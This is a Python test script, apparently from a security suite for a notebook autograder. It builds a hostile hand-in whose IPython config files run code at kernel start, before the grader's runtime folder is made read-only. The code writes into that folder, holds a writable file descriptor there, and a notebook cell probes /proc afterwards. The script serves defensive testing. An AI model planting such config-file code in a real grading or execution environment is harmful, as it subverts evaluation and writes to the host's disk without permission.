"""a03: IPython loads its configuration from the current working directory as well as its profile. The kernel's cwd
is the hand-in's copy, so a hand-in that holds `ipython_kernel_config.py` / `ipython_config.py` (plain Python files,
not links) may run code as the kernel starts: before its sockets exist, so before the launcher makes the runtime
folder (on the grader's disk) read-only. The config records what it could do at that moment (write into
JUPYTER_RUNTIME_DIR, keep a writable descriptor there), the notebook's first cell prints it. Honest ps1 after it."""
import os, sys, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u14
CONFIG = r'''
import os, time
_log = []
try:
    _rt = os.environ.get("JUPYTER_RUNTIME_DIR")
    _log.append("config ran: pid %d cwd %s runtime %s listdir %r" % (os.getpid(), os.getcwd(), _rt, os.listdir(_rt) if _rt else None))
    with open(os.path.join(_rt, "planted-by-config.txt"), "w") as _f:
        _f.write("x" * 1000)
    _log.append("wrote planted-by-config.txt into the runtime folder")
    _keep = os.open(os.path.join(_rt, "held-open.bin"), os.O_WRONLY | os.O_CREAT, 0o644)
    _log.append("holding a writable fd %d on the runtime folder" % _keep)
    import builtins; builtins._a03_fd = _keep
except Exception as _e:
    _log.append("config error %r" % _e)
open("/tmp/a03-config-log.txt", "a").write("\n".join(_log) + "\n")
'''
CELL = r'''
import os, builtins
print("CONFIG LOG:", open("/tmp/a03-config-log.txt").read() if os.path.exists("/tmp/a03-config-log.txt") else "config never ran")
_fd = getattr(builtins, "_a03_fd", None)
print("fd from config:", _fd)
if _fd is not None:
    try:
        n = os.write(_fd, b"y" * (1 << 20)); print("wrote through the held fd after the remount:", n)
    except OSError as e:
        print("write through held fd:", e)
rt = os.environ.get("JUPYTER_RUNTIME_DIR")
try:
    open(os.path.join(rt, "after.txt"), "w").write("z"); print("runtime folder writable in a cell!")
except OSError as e:
    print("runtime folder in a cell:", e)
print(open("/proc/self/mountinfo").read()[-1500:])
print("procs:", [(p, open(f"/proc/{p}/cmdline","rb").read()[:80]) for p in os.listdir("/proc") if p.isdigit()])
'''
def handin(d):
    import nbformat
    nbformat.write(u14.notebook("ps1_memory", append={"training_memory": CELL}), os.path.join(d, "ps1_memory.ipynb"))
    for n in ("ipython_kernel_config.py", "ipython_config.py"):
        open(os.path.join(d, n), "w").write(CONFIG)
dest = u14.course("a03", {("mallory", "ps1_memory"): handin, ("zz_honest", "ps1_memory"): u14.honest("ps1_memory")})
p = u14.grade(dest, env=u14.CANARY_ENV)
u14.scores(dest)
u14.cell_outputs(dest, "mallory", "ps1_memory", ("training_memory",))
print(open(f"{dest}/grading_report.json").read()[:2000])
u14.cleanup(dest)
